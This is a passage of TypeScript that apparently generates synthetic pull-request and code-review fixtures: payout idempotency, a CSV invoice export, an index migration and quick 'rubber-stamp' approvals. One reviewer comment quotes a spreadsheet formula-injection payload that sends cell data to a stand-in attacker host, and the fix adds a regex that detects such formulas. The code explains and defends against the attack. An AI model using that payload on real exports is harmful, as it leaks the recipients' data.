      "    expect([a.status, b.status].sort()).toEqual([201, 409]);",
      "    expect(await app.payouts.count()).toBe(1);",
      "  });",
      "});",
    ]);
    const original = [added("src/payouts/idempotency.ts", idemBefore), migrationBefore, route];
    const files = [added("src/payouts/idempotency.ts", idemAfter), migration, route, test];
    out.push({
      key: "d5",
      repo: "payments",
      author: P.priya,
      title: "Idempotency keys for POST /v1/payouts",
      body: "The mobile SDK retries `POST /v1/payouts` after 2 s without a response. Twice this quarter that produced a duplicate payout (support refunded by hand).\n\nThis honours the `Idempotency-Key` header: a repeated key returns the stored response instead of creating a second payout.",
      openedAt: "2026-09-09T09:50:00Z",
      headRef: "priya/payout-idempotency",
      labels: ["enhancement", "migration"],
      originalFiles: original,
      files,
      commits: [
        { atMin: -90, message: "Add idempotency key middleware for payouts", coAuthors: [COPILOT_CO_AUTHOR] },
        { atMin: 260, message: "Claim the idempotency key before running the payout", coAuthors: [COPILOT_CO_AUTHOR] },
      ],
      reviews: [
        copilotReview(rng, 3, "This PR adds idempotency-key handling to payout creation.", original),
        {
          by: P.rafael,
          atMin: 85,
          state: "changes_requested",
          body: "This is the right feature, but as written it doesn't stop the duplicate payouts it's meant to stop. Details inline.",
          comments: [
            {
              path: "src/payouts/idempotency.ts",
              anchor: "if (existing) return existing.response as T;",
              body:
                "Check-then-act race: the SDK retries after 2 s while the first attempt is usually *still running* (payouts take 3–6 s because of the bank API). Both requests miss the `SELECT`, both call `run()`, and we pay out twice — the key only stops a third attempt. That's exactly the incident this PR is meant to fix.\n\n" +
                "The key has to be claimed before the side effect: `INSERT … (status) VALUES ('in_progress') ON CONFLICT (merchant_id, key) DO NOTHING RETURNING key`. If nothing comes back, someone else owns the key: return the stored response if it's `done`, else 409. And release the claim if `run()` throws, so a genuine retry can go through. Stripe's write-up of the same design: https://stripe.com/blog/idempotency",
              outcome: "fixed",
              replies: [
                { by: "author", afterMin: 35, body: "You're right — I was thinking of sequential retries. Reworking to claim first." },
                { by: "author", afterMin: 180, body: "Done: claim with ON CONFLICT, 409 while in progress, claim released on failure, and a test that fires two payouts with the same key in parallel." },
              ],
              resolve: { by: "reviewer", afterMin: 200 },
            },
            {
              path: "migrations/20260909_idempotency_keys.sql",
              anchor: "created_at timestamptz NOT NULL DEFAULT now()",
              body: "`ON CONFLICT` needs a unique index on `(merchant_id, key)`, which this migration doesn't create yet — without it two rows with the same key can coexist.",
              outcome: "fixed",
              resolve: { by: "reviewer", afterMin: 201 },
            },
          ],
        },
        { by: P.rafael, atMin: 290, state: "approved", body: "Approving. Ran the parallel test 200 times locally: one payout every time." },
        { by: P.maya, atMin: 300, state: "approved", body: "LGTM, thanks both." },
      ],
      comments: [
        { by: P.priya, atMin: 1500, body: "/unsung dispute {{url:d5}} The Copilot co-author trailer on these commits came from my editor's AI assist — nobody paired with me on this, so it shouldn't count as co-authored work." },
      ],
      close: { atMin: 320, merged: true, by: P.priya },
      requestedReviewers: [P.rafael, P.maya],
      tags: ["deep-review", "deep-review:rafael-moreno", "ai-co-author"],
    });
  }

  // ------------------------------------------------------------ D6: devraj finds CSV formula injection (web-console)
  {
    const csvBefore = [
      'import { formatMoney } from "../lib/money";',
      'import type { Invoice } from "./types";',
      "",
      "export function toCsv(invoices: Invoice[]): string {",
      '  const header = ["Invoice", "Customer", "Amount", "Status", "Issued"];',
      "  const rows = invoices.map((inv) => [inv.number, inv.customerName, formatMoney(inv.amountCents), inv.status, inv.issuedAt]);",
      '  return [header, ...rows].map((r) => r.join(",")).join("\\n");',
      "}",
    ];
    const csvAfter = [
      'import { formatMoney } from "../lib/money";',
      'import type { Invoice } from "./types";',
      "",
      "/** Cells that spreadsheets would run as formulas (OWASP: CSV injection). */",
      "const FORMULA_START = /^[=+\\-@\\t\\r]/;",
      "",
      "/** RFC 4180 quoting, plus a leading apostrophe for formula-like cells. */",
      "export function csvCell(value: string): string {",
      "  const safe = FORMULA_START.test(value) ? `'${value}` : value;",
      '  return /[",\\n\\r]/.test(safe) ? `"${safe.replaceAll(\'"\', \'""\')}"` : safe;',
      "}",
      "",
      "export function toCsv(invoices: Invoice[]): string {",
      '  const header = ["Invoice", "Customer", "Amount", "Status", "Issued"];',
      "  const rows = invoices.map((inv) => [inv.number, inv.customerName, formatMoney(inv.amountCents), inv.status, inv.issuedAt]);",
      '  return [header, ...rows].map((r) => r.map(csvCell).join(",")).join("\\r\\n");',
      "}",
    ];
    const button = modified(
      "src/components/InvoiceList/InvoiceList.tsx",
      hunk(31, 31, "export function InvoiceList({ invoices }: Props) {", [
        '       <h2>{t("invoices.title")}</h2>',
        '+      <Button variant="secondary" onClick={() => download("invoices.csv", toCsv(invoices))}>',
        '+        {t("invoices.exportCsv")}',
        "+      </Button>",
        "       <Table rows={invoices} columns={columns} />",
      ]),
    );
    const test = added("src/billing/export-csv.test.ts", [
      'import { describe, expect, it } from "vitest";',
      'import { csvCell } from "./export-csv";',
      "",
      'describe("csvCell", () => {',
      '  it("quotes commas and quotes", () => {',
      '    expect(csvCell(\'Globex, "Inc."\')).toBe(\'"Globex, ""Inc."""\');',
      "  });",
      '  it("neutralises formulas", () => {',
      '    expect(csvCell("=HYPERLINK(\\"x\\")")).toBe("\'=HYPERLINK(\\"x\\")");',
      "  });",
      "});",
    ]);
    const original = [added("src/billing/export-csv.ts", csvBefore), button];
    const files = [added("src/billing/export-csv.ts", csvAfter), button, test];
    out.push({
      key: "d6",
      repo: "console",
      author: P.aiko,
      title: "Export invoices as CSV",
      body: "Finance asked for a CSV export of the invoice list for month-end close (they currently copy-paste from the table).\n\nAdds an **Export CSV** button to the invoice list.\n\n<img width=\"720\" alt=\"invoice list with export button\" src=\"https://github.com/user-attachments/assets/3f0c2b1e-export-csv.png\">",
      openedAt: "2026-09-16T11:00:00Z",
      headRef: "aiko/invoice-csv",
      labels: ["enhancement", "area:checkout"],
      originalFiles: original,
      files,
      commits: [
        { atMin: -40, message: "Add CSV export to the invoice list" },
        { atMin: 200, message: "Quote CSV cells and neutralise formula injection" },
      ],
      reviews: [
        coderabbitReview(rng, 4, original),
        {
          by: P.dev,
          atMin: 110,
          state: "changes_requested",
          body: "Two problems with the CSV encoding, one of them a security issue. Inline.",
          comments: [
            {
              path: "src/billing/export-csv.ts",
              anchor: 'r.join(",")',
              body:
                "Two problems here:\n\n1. Customer names contain commas and quotes (`Globex, Inc.`), so columns shift — this needs RFC 4180 quoting.\n2. **CSV/formula injection**: customer names are user-controlled, and a name like `=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")` runs when finance opens the export in Excel. OWASP's guidance is to prefix cells starting with `=`, `+`, `-`, `@`, tab or CR with a `'`: https://owasp.org/www-community/attacks/CSV_Injection\n\nA tiny `csvCell()` helper with tests for both would cover it.",
              outcome: "fixed",
              replies: [{ by: "author", afterMin: 40, body: "Oof, I had no idea about formula injection. Adding `csvCell()` with tests." }],
              resolve: { by: "reviewer", afterMin: 120 },
            },
          ],
        },
        ...nitReview(rng, 130, original),
        { by: P.dev, atMin: 215, state: "approved", body: "Thanks Aiko — good to go." },
      ],
      comments: [
        { by: BOTS.coderabbit, atMin: 2, body: coderabbitWalkthrough("Export invoices as CSV", original) },
        { by: BOTS.actions, atMin: 9, body: previewComment("d6") },
      ],
      close: { atMin: 240, merged: true, by: P.aiko },
      requestedReviewers: [P.dev, P.tomas],
      tags: ["deep-review", "deep-review:devraj-patel", "padded-review"],
    });
  }

  // ------------------------------------------------------------ V1: rafael's verified approval (payments-core)
  {
    const files = [
      added("migrations/20260819_payments_merchant_created_idx.sql", [
        "-- +migrate NoTransaction",
        "-- The merchant dashboard lists a merchant's payments newest first. Without",
        "-- this index the query scans ~41M rows (p50 1.8 s in production).",
        "CREATE INDEX CONCURRENTLY IF NOT EXISTS payments_merchant_id_created_at_idx",
        "  ON payments (merchant_id, created_at DESC);",
      ]),
      modified(
        "src/merchants/dashboard-query.ts",
        hunk(9, 9, "export async function recentPayments(db: Db, merchantId: string, limit = 50) {", [
          "   return db.many<PaymentRow>(sql`",
          "     SELECT id, amount_cents, currency, status, created_at",
          "     FROM payments",
          "-    WHERE merchant_id = ${merchantId}",
          "-    ORDER BY created_at DESC",
          "+    WHERE merchant_id = ${merchantId}  -- uses payments_merchant_id_created_at_idx",
          "+    ORDER BY created_at DESC, id DESC",
          "     LIMIT ${limit}",
          "   `);",
        ]),
      ),
    ];
    out.push({
      key: "v1",
      repo: "payments",
      author: P.priya,
      title: "Add index on payments(merchant_id, created_at) for the merchant dashboard",
      body: "The merchant dashboard's \"recent payments\" query is the slowest query in payments-core (p50 1.8 s, p99 6 s). It filters by merchant and sorts by time, and there's no index that serves both.\n\nThis adds `payments_merchant_id_created_at_idx` with `CREATE INDEX CONCURRENTLY` (the migration runs outside a transaction).\n\n**Risk:** building an index on a 41M-row table. Should not block writes, but I'd like someone to try it on a snapshot first.",
      openedAt: "2026-08-19T10:00:00Z",
      headRef: "priya/merchant-dashboard-index",
      labels: ["migration"],
      files,
      commits: [{ atMin: -25, message: "Add index for the merchant dashboard query" }],
      reviews: [
        copilotReview(rng, 3, "This PR adds a composite index to speed up the merchant dashboard query.", files, 0),
        {
          by: P.rafael,
          atMin: 260,
          state: "approved",
          body:
            "Ran the migration against a prod snapshot: 4 s, no locks taken. (Snapshot from 2026-08-18, 41.2M rows; `CREATE INDEX CONCURRENTLY` only held SHARE UPDATE EXCLUSIVE, and a write benchmark ran alongside without blocking.)\n\n" +
            "`EXPLAIN ANALYZE` of the dashboard query now uses `payments_merchant_id_created_at_idx`: 1.8 s → 12 ms for the biggest merchant. Index size 1.1 GB, fine for the disk headroom we have.\n\nApproving.",
        },
      ],
      comments: [
        { by: P.marcus, atMin: 300, body: "/unsung endorse @rafael-moreno Rafael verified this index migration on a production snapshot before approving (timing, locks, query plan) — that's the bar for risky migrations." },
      ],
      close: { atMin: 290, merged: true, by: P.priya },
      requestedReviewers: [P.rafael],
      tags: ["verified-approval"],
    });
  }

  // ------------------------------------------------------------ Rubber stamps: kwame approves 1,000+ line changes within two minutes
  const stamps: { key: string; repo: "fleet" | "console"; author: typeof P.oliver; title: string; body: string; openedAt: string; headRef: string; files: ReturnType<typeof telemetryV2>; approveMin: number; approvalBody: string | null }[] = [
    {
      key: "r1",
      repo: "fleet",
      author: P.oliver,
      title: "Migrate telemetry ingestion to the v2 schema",
      body: "Firmware 5.x sends v2 telemetry frames; v1 frames stopped arriving on 2026-07-01 (all robots are on 5.x now).\n\n- v2 decoders + zod schemas for all 20 frame types\n- ingest routes by frame type\n- removes the v1 decoder\n\nShadow-ran the v2 path against production traffic for a week: 0 decode errors.",
      openedAt: "2026-07-14T14:02:00Z",
      headRef: "oliver/telemetry-v2",
      files: telemetryV2(),
      approveMin: 1.5,
      approvalBody: null,
    },
    {
      key: "r2",
      repo: "console",
      author: P.hannah,
      title: "Replace Moment with date-fns across the console",
      body: "Moment is in maintenance mode and is 290 kB of our bundle. This swaps it for date-fns everywhere (formatting + relative times).\n\nBundle: 1.41 MB → 1.14 MB gzipped.",
      openedAt: "2026-08-04T11:15:00Z",
      headRef: "hannah/date-fns",
      files: momentToDateFns(),
      approveMin: 1,
      approvalBody: "👍",
    },
    {
      key: "r3",
      repo: "fleet",
      author: P.jonah,
      title: "Generate OpenAPI client for the firmware service",
      body: "Replaces the hand-written `fetchJson` calls to the firmware service with a client generated from its OpenAPI spec (openapi-typescript-codegen 0.29).\n\nRegenerate with `npm run gen:firmware-client`.",
      openedAt: "2026-09-02T16:40:00Z",
      headRef: "jonah/firmware-client",
      files: firmwareClient(),
      approveMin: 2,
      approvalBody: null,
    },
    {
      key: "r4",
      repo: "console",
      author: P.aiko,
      title: "Migrate components to the new design tokens",
      body: "Moves every component from the old hex palette variables to the new OKLCH design tokens (`--color-*`), so dark mode can land next.\n\nVisual diff: no changes in light mode (checked with the Storybook snapshot suite).",
      openedAt: "2026-09-22T10:20:00Z",
      headRef: "aiko/design-tokens",
      files: designTokens(),
      approveMin: 1,
      approvalBody: null,
    },
  ];
  for (const s of stamps) {
    out.push({
      key: s.key,
      repo: s.repo,
      author: s.author,
      title: s.title,
      body: s.body,
      openedAt: s.openedAt,
      headRef: s.headRef,
      labels: [],
      files: s.files,
      commits: [
        { atMin: -240, message: `${s.title} (part 1)` },
        { atMin: -30, message: `${s.title} (part 2)` },
      ],
      reviews: [{ by: P.kwame, atMin: s.approveMin, state: "approved", body: s.approvalBody }],
      comments:
        s.key === "r1"
          ? [{ by: P.kwame, atMin: 4000, body: "/unsung dispute {{url:r1}} I reviewed this with oliver-grant on a call the day before he opened it; the approval was quick because the review happened off-GitHub." }]
          : s.repo === "console"
            ? [{ by: BOTS.actions, atMin: 8, body: previewComment(s.key) }]
            : [],
      close: { atMin: s.approveMin + 38, merged: true, by: s.author },
      requestedReviewers: [P.kwame],
      tags: ["rubber-stamp"],
    });
  }

  return out;
}
